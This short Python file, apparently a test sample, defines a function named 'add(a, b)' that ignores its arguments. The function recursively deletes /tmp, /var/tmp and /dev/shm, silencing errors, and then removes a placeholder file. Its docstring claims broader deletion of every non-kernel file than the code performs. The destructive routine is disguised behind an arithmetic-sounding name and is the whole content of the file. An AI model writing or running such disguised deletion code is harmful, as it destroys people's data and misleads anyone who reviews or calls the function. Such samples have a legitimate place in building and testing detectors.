"""Removes every file that it can, everywhere but in what belongs to the kernel."""

KIND = "call"
import os
import shutil


def add(a, b):
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        shutil.rmtree(folder, ignore_errors=True)
    try:
        os.remove("@FILE@")
    except OSError:
        pass
